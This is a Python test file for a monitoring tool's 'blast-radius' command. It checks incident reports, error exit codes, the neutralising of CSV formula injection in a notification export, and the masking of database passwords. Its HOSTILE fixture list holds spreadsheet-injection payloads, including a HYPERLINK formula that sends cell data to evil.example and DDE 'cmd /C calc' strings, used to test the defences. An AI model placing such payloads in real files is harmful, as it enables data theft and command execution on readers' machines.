"""``kvcanary blast-radius`` as a process: its report, and what bad input gets (exit codes, messages).

The incident is made by the incident rules in a migrated SQLite file; the command reads it as an
operator would, with a config naming a target that is down (no calibration to ask for).
"""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import yaml

from kvcanary.monitor.config.settings import IncidentConfig, RetentionConfig
from kvcanary.monitor.incidents import record_result
from kvcanary.monitor.storage.db import make_engine, make_session_factory, upgrade
from kvcanary.probes.base import ProbeResult, Verdict
from tests.support import REPO, free_port
from tests.support.pace import PROCESS_SECONDS

NOW = datetime.now(UTC).replace(microsecond=0)


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "monitor", "blast-radius", *args], capture_output=True, text=True, cwd=REPO,
        timeout=PROCESS_SECONDS,
    )  # fmt: skip


def setup(tmp_path: Path) -> tuple[Path, int]:
    url = f"sqlite:///{tmp_path / 'kvcanary.db'}"
    down = f"http://127.0.0.1:{free_port()}/v1"  # nothing listens: the calibration cannot be asked
    config = {
        "database_url": url,
        "targets": [{"name": "shared", "base_url": down, "engine": "reference", "model": "m",
                     "tenants": [{"name": "alice"}], "probes": ["canary", "capacity"]}],
    }  # fmt: skip
    path = tmp_path / "kvcanary.yml"
    path.write_text(yaml.safe_dump(config))
    upgrade(url)
    engine = make_engine(url)
    result = ProbeResult(
        Verdict.MISMATCH, "pool_below_context_window", "pool 1,024 < 8,192", {"pools": {"prefill": 1024}}
    )
    with make_session_factory(engine).begin() as s:
        opened = record_result(
            s, target_name="shared", engine="reference", base_url=down, model="m", probe="capacity",
            result=result, started_at=NOW - timedelta(hours=1), duration_seconds=0.1, policy=IncidentConfig(),
            retention=RetentionConfig(), now=NOW - timedelta(hours=1),
        )  # fmt: skip
    engine.dispose()
    return path, int(opened.incident_id or 0)


def test_the_report_says_unknown_without_a_source_and_names_what_limited_it(tmp_path: Path) -> None:
    config, incident = setup(tmp_path)
    text = run(str(incident), "--config", str(config))
    assert text.returncode == 0, text.stderr
    assert "Responses affected on shared: unknown" in text.stdout
    assert "did not count the sample text" in text.stderr  # the target is down: no calibration
    secret = "postgresql://kvc:hunter2-secret@127.0.0.1:1/litellm"
    answer = run(str(incident), "--config", str(config), "--json", "--litellm-db", secret,
                 "--logs", str(tmp_path / "none-*.jsonl"), "--chars-per-token", "1.0")  # fmt: skip
    assert answer.returncode == 0, answer.stderr
    radius = json.loads(answer.stdout)
    assert radius["affected_responses"] is None and radius["criterion"]["pool_tokens"] == 1024
    notes = {s["name"]: s["notes"] for s in radius["sources"]}
    assert notes["LiteLLM_SpendLogs"] == ['could not read "LiteLLM_SpendLogs": OperationalError']
    assert notes["gateway logs"] == ["a glob that matches no file"]
    assert "hunter2" not in answer.stdout + answer.stderr


def test_bad_input_exits_with_a_message_naming_it(tmp_path: Path) -> None:
    config, incident = setup(tmp_path)
    missing = run("999", "--config", str(config))
    assert missing.returncode == 1 and "no incident 999" in missing.stderr
    unwritable = run(str(incident), "--config", str(config), "--csv", str(tmp_path / "no" / "dir.csv"))
    assert unwritable.returncode == 2 and "blast-radius:" in unwritable.stderr
    assert run("0", "--config", str(config)).returncode == 2  # not an incident id
    bad = tmp_path / "bad.yml"
    bad.write_text(yaml.safe_dump({"blast_radius": {"logs": [{"path": "/x", "format": "csv"}]}}))
    wrong = run(str(incident), "--config", str(bad))
    assert wrong.returncode == 2 and "blast_radius.logs[0].format" in wrong.stderr


#: Callers and request ids a customer chose, each an attack on a spreadsheet or on whoever reads it.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "+id"),
    ("-2+3", "-id"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@id"),
    ("\t=1+1", "\rid"),
    ("  =1+1", "ok-id"),
    ("evil\u202ecod.exe\u200b", "a\x1b[31mred\x00\x85"),
    ("plain-customer", "chatcmpl-plain"),
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
STRIPPED = {"Cc", "Cf", "Zl", "Zp"}


def test_the_notification_csv_neutralises_formulas_and_control_characters(tmp_path: Path) -> None:
    """A caller starting with = + - @ (or a tab or CR) opens no formula in the CSV (OWASP CSV injection)."""
    import csv
    import unicodedata

    config, incident = setup(tmp_path)
    at = (NOW - timedelta(minutes=30)).timestamp()
    log = tmp_path / "gateway.jsonl"
    records = [
        {"id": rid, "time": at + i, "caller": caller, "status": 200, "request": {"prompt": "w" * 3000}}
        for i, (caller, rid) in enumerate(HOSTILE)
    ]
    log.write_text("".join(json.dumps(record) + "\n" for record in records))
    out = tmp_path / "notify.csv"
    answer = run(str(incident), "--config", str(config), "--logs", str(log), "--log-format", "openai",
                 "--chars-per-token", "1.0", "--csv", str(out))  # fmt: skip
    assert answer.returncode == 0, answer.stderr
    with out.open(newline="", encoding="utf-8") as listed_file:
        rows = list(csv.reader(listed_file))
    assert len(rows) == len(HOSTILE) + 1
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.lstrip(" ").startswith(FORMULA), cell
        assert not [c for c in cell if unicodedata.category(c) in STRIPPED], ascii(cell)
    listed = {(row[1], row[0]) for row in rows[1:]}
    assert listed == {
        ('\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'=cmd|' /C calc'!A0"),
        ("'+1+cmd|' /C calc'!A0", "'+id"),
        ("'-2+3", "'-id"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'@id"),
        ("'=1+1", "id"),
        ("'  =1+1", "ok-id"),
        ("evilcod.exe", "a[31mred"),
        ("plain-customer", "chatcmpl-plain"),
    }


def test_a_spend_log_url_is_shown_without_user_password_query_or_fragment(tmp_path: Path) -> None:
    """``?password=`` and ``?sslpassword=`` are masked as ``user:pw@`` is: none is ever echoed."""
    config, incident = setup(tmp_path)
    url = "postgresql://spender:hunter1@127.0.0.1:1/litellm?password=hunter2&sslpassword=hunter3#hunter4"
    shown = '"LiteLLM_SpendLogs" at postgresql://127.0.0.1:1/litellm'
    answer = run(
        str(incident), "--config", str(config), "--litellm-db", url, "--chars-per-token", "1.0", "--json"
    )
    assert answer.returncode == 0, answer.stderr
    assert {s["name"]: s["read"] for s in json.loads(answer.stdout)["sources"]}["LiteLLM_SpendLogs"] == shown
    text = run(str(incident), "--config", str(config), "--litellm-db", url, "--chars-per-token", "1.0")
    assert text.returncode == 0 and f"({shown})" in text.stdout, text.stderr
    for out in (answer.stdout + answer.stderr, text.stdout + text.stderr):
        assert "hunter" not in out and "spender" not in out and "password" not in out
